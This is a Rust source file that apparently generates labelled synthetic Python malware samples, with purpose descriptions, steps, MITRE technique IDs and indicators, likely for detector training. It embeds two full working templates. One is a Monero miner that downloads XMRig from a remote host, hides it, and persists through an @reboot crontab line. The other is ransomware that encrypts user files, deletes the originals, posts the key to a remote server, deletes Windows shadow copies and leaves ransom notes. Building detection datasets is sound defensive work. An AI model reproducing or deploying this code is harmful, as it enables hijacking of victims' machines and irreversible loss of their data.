//! Python: attacker families whose goal is impact on the host (mining, ransomware).

use super::names::{self, fill, pick, R};
use super::python::doc;
use super::Draft;

pub(crate) fn miner(r: &mut R) -> Draft {
    let host = names::c2_host(r);
    let pool = format!(
        "{}:{}",
        names::c2_domain(r),
        pick(r, &[3333, 4444, 5555, 443])
    );
    let wallet = names::wallet(r);
    let name = names::stealth_name(r);
    let c = fill(
        r#"import os
import platform
import stat
import subprocess
import tarfile
import urllib.request

HOME = os.path.expanduser("~/.local/share/.@NAME@")
URL = "http://@HOST@/bin/xmr-" + platform.machine() + ".tar.gz"
POOL = "@POOL@"
WALLET = "@WALLET@"

def running():
    out = subprocess.run(["ps", "aux"], capture_output=True, text=True).stdout
    return "@NAME@ -o" in out

def install():
    os.makedirs(HOME, exist_ok=True)
    archive = os.path.join(HOME, "x.tgz")
    urllib.request.urlretrieve(URL, archive)
    with tarfile.open(archive) as t:
        t.extractall(HOME)
    os.remove(archive)
    binary = os.path.join(HOME, "@NAME@")
    os.rename(os.path.join(HOME, "xmrig"), binary)
    os.chmod(binary, os.stat(binary).st_mode | stat.S_IEXEC)
    return binary

if not running():
    binary = os.path.join(HOME, "@NAME@")
    if not os.path.exists(binary):
        binary = install()
    threads = max(1, (os.cpu_count() or 2) - 1)
    subprocess.Popen([binary, "-o", POOL, "-u", WALLET, "-k", "--threads", str(threads), "--background"],
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
    cron = f"@reboot {binary} -o {POOL} -u {WALLET} --background\n"
    existing = subprocess.run(["crontab", "-l"], capture_output=True, text=True).stdout
    if binary not in existing:
        subprocess.run(["crontab", "-"], input=existing + cron, text=True)
"#,
        &[
            ("NAME", name),
            ("HOST", &host),
            ("POOL", &pool),
            ("WALLET", &wallet),
        ],
    );
    Draft {
        content: c,
        purpose: format!("installs and starts an XMRig miner disguised as {name} that mines for the pool {pool}"),
        steps: vec![
            format!("checks ps aux for an already running {name} -o process"),
            format!("downloads http://{host}/bin/xmr-ARCH.tar.gz with urllib.request.urlretrieve into ~/.local/share/.{name} and extracts it"),
            format!("renames xmrig to {name} and makes it executable"),
            format!("starts it with subprocess.Popen against {pool}, a hard-coded wallet and all but one CPU thread, in a new session"),
            "adds an @reboot crontab line so it restarts after reboots".into(),
        ],
        effects: vec!["The CPU is kept busy mining Monero for the attacker, raising power use and slowing legitimate work.".into()],
        behaviours: vec![
            "Runs a cryptocurrency miner (T1496)".into(),
            "Persists via cron (T1053.003)".into(),
            "Downloads a payload (T1105)".into(),
        ],
        iocs: vec![pool, format!("http://{host}/bin/xmr-")],
    }
}

pub(crate) fn ransomware(r: &mut R) -> Draft {
    let ext = format!(".{}", names::token(r, 5));
    let email = format!(
        "{}@{}",
        names::token(r, 8),
        pick(r, &["protonmail.com", "onionmail.org", "tutanota.com"])
    );
    let host = names::c2_host(r);
    let mut c = doc(r, "file sync utility");
    c.push_str(&fill(
        r#"import os
import subprocess
import sys

import requests
from cryptography.fernet import Fernet

EXT = "@EXT@"
TARGETS = (".doc", ".docx", ".xls", ".xlsx", ".pdf", ".jpg", ".png", ".sql", ".csv", ".zip")
NOTE = "Your files are encrypted. Write to @EMAIL@ with this ID: {id}\n"

key = Fernet.generate_key()
fernet = Fernet(key)
victim = os.urandom(8).hex()
requests.post("https://@HOST@/register", json={"id": victim, "key": key.decode()}, timeout=20)

if sys.platform == "win32":
    subprocess.run("vssadmin delete shadows /all /quiet", shell=True)

def encrypt(path):
    with open(path, "rb") as fh:
        data = fh.read()
    with open(path + EXT, "wb") as fh:
        fh.write(fernet.encrypt(data))
    os.remove(path)

for root in [os.path.expanduser("~"), "/mnt", "/media", "D:\\", "E:\\"]:
    for dirpath, _, files in os.walk(root):
        hit = False
        for f in files:
            if f.lower().endswith(TARGETS):
                try:
                    encrypt(os.path.join(dirpath, f))
                    hit = True
                except OSError:
                    continue
        if hit:
            with open(os.path.join(dirpath, "READ_ME.txt"), "w") as fh:
                fh.write(NOTE.format(id=victim))
del key
"#,
        &[("EXT", &ext), ("EMAIL", &email), ("HOST", &host)],
    ));
    Draft {
        content: c,
        purpose: format!("encrypts the user's documents with Fernet, renames them to {ext} and leaves READ_ME.txt ransom notes"),
        steps: vec![
            format!("generates a Fernet key and a random victim id and registers both with https://{host}/register"),
            "deletes shadow copies with vssadmin delete shadows /all /quiet when running on Windows".into(),
            "walks the home folder, /mnt, /media and drives D and E for documents, images, databases and archives".into(),
            format!("writes an encrypted copy ending in {ext} and deletes each original"),
            format!("drops READ_ME.txt in every affected folder with the contact {email}"),
        ],
        effects: vec!["Files are only recoverable with the key sent to the operator, which the script deletes from memory.".into()],
        behaviours: vec![
            "Encrypts files for impact (T1486)".into(),
            "Inhibits system recovery (T1490)".into(),
            "Exfiltrates the key over HTTPS (T1041)".into(),
        ],
        iocs: vec![ext, email, format!("https://{host}/register")],
    }
}
